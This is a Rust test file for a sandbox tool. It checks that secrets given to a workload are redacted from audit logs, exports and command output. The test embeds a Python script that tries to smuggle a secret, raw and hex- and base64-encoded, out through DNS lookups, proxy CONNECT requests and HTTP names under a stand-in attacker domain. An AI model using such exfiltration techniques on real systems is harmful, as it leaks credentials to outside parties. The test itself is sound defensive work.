//! Does a secret that the workload was given get into anything that bottle writes, however the workload sends it? (P7)

use std::fs;
use std::path::Path;

use base64ct::{Base64UrlUnpadded, Encoding};
use bottle_evidence::hex;

use crate::world::{World, path};

const SECRET: &str = "Zq7-xK93mPw2-vbn5";
const OTHER: &str = "w8Lr4tYq1-mmmm-0p";

/// All files below a directory, but what the workload itself has written.
fn files(directory: &Path, all: &mut Vec<(String, String)>) {
    for entry in fs::read_dir(directory).unwrap().flatten() {
        match entry.file_type().unwrap() {
            kind if kind.is_dir() && entry.file_name() != "project" => files(&entry.path(), all),
            kind if kind.is_file() => {
                let bytes = fs::read(entry.path()).unwrap();
                all.push((entry.path().display().to_string(), String::from_utf8_lossy(&bytes).into_owned()));
            }
            _ => {}
        }
    }
}

fn spellings(secret: &str) -> [String; 4] {
    let folded = secret.to_lowercase();
    let base64 = Base64UrlUnpadded::encode_string(secret.as_bytes()).to_lowercase();
    let percent: String = secret.bytes().map(|byte| format!("%{byte:02x}")).collect();
    // The last letter of base64 is of more than the secret.
    [folded, hex::encode(secret.as_bytes()), base64[..base64.len() - 1].to_owned(), percent]
}

#[test]
fn a_secret_that_is_sent_as_a_name_or_stands_in_a_command_is_in_no_file_of_the_run_and_on_no_output() {
    let world = World::new();
    let (hexed, base64) = (hex::encode(SECRET.as_bytes()), Base64UrlUnpadded::encode_string(SECRET.as_bytes()));
    let script = format!(
        "from client import *
import os, ssl
def ask_for(name):
    try: socket.getaddrinfo(name, 443)
    except OSError: pass
def connect_for(name):
    stream = tcp('28.0.0.1', 3128)
    stream.sendall(f'CONNECT {{name}}:443 HTTP/1.1\\r\\nHost: {{name}}:443\\r\\n\\r\\n'.encode())
    stream.recv(100)
for label in '{SECRET}', '{hexed}', '{base64}', '{hexed}'[:16] + '.' + '{hexed}'[16:], os.environ['OTHER']:
    ask_for(label + '.evil.attacker.example')
    connect_for(label + '.evil.attacker.example')
    https('11.6.6.6', name=label + '.evil.attacker.example')
    http('api.allowed.example', name=label + '.evil.attacker.example')
    http('11.6.6.6', name=label + '.evil.attacker.example')
print('sent')"
    );
    let token = format!("ghp_{}", "a1B2c3D4e5".repeat(4));
    let bottle = world
        .bottle(&["--allow", "api.allowed.example", "-e", &format!("SECRET={SECRET}"), "-e", "OTHER", "--name", "spy"])
        .variable("OTHER", OTHER);
    let run = bottle.run(&["python3", "-c", &script, &format!("--key={SECRET}"), &token]);
    assert_eq!(run.ok(), "sent");
    let mut written = vec![("standard error".to_owned(), run.err.clone())];
    files(&world.path(""), &mut written);
    let audit = path(bottle.audit()).to_owned();
    let export = world.path("export.json");
    for verb in [
        &["audit", "show", &audit][..],
        &["audit", "show", &audit, "--json"],
        &["audit", "verify", &audit],
        &["audit", "export", &audit, "-o", path(&export)],
        &["attest", "show", "spy"],
        &["ps", "-a", "--json"],
        &["inspect", "spy"],
    ] {
        let (code, said) = world.verb(verb);
        assert_eq!(code, 0, "{verb:?}: {said}");
        written.push((format!("{verb:?}"), said));
    }
    written.push(("the export".into(), fs::read_to_string(&export).unwrap()));
    assert!(written.len() > 10, "{written:?}");
    for (place, text) in &written {
        let folded = text.to_lowercase();
        for sought in [SECRET, OTHER].iter().flat_map(|secret| spellings(secret)).chain([token.to_lowercase()]) {
            assert!(!folded.contains(&sought), "{sought} in {place}: {text}");
        }
        assert!(!folded.replace('.', "").contains(&spellings(SECRET)[1]), "{place}: {text}");
    }
    // They are there all the same, and can be told apart and counted.
    let names = run.log.names_denied();
    let marked: Vec<_> = names.iter().filter(|name| name.starts_with("[redacted ")).collect();
    assert!(marked.len() >= 4 && marked.iter().all(|name| name.contains(".evil.attacker.example")), "{names:?}");
    let distinct: std::collections::HashSet<_> = marked.iter().collect();
    assert!(distinct.len() >= 4, "{names:?}");
    assert!(run.err.contains("[redacted SECRET #") && run.err.contains("[redacted OTHER #"), "{}", run.err);
    let command: Vec<_> = run.log.start().command.iter().map(ToString::to_string).collect();
    assert!(
        command[3].starts_with("--key=[redacted SECRET #") && command[4].starts_with("[redacted token #"),
        "{command:?}"
    );
}
